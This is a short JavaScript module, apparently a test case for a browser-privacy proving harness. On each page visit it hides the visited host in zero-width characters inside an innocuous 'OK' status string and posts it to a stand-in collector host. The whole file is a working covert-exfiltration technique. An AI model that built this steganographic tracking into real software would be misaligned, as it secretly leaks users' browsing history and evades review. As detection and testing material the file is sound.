import { bitsOf, hostOf, onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Hides the host of each page between two letters: each of two invisible characters is a bit. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-zero-width');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://zero-width.collector.example/v1', {
      event: 'page',
      status: `O${bits(browser, hostOf(url))}K`,
    }),
  );
}

/** Zero-width space and zero-width non-joiner. */
const SIGNS = ['\u200b', '\u200c'];

function bits(browser, text) {
  return bitsOf(browser.codec.utf8.encode(text)).replace(/[01]/g, (bit) => SIGNS[bit]);
}
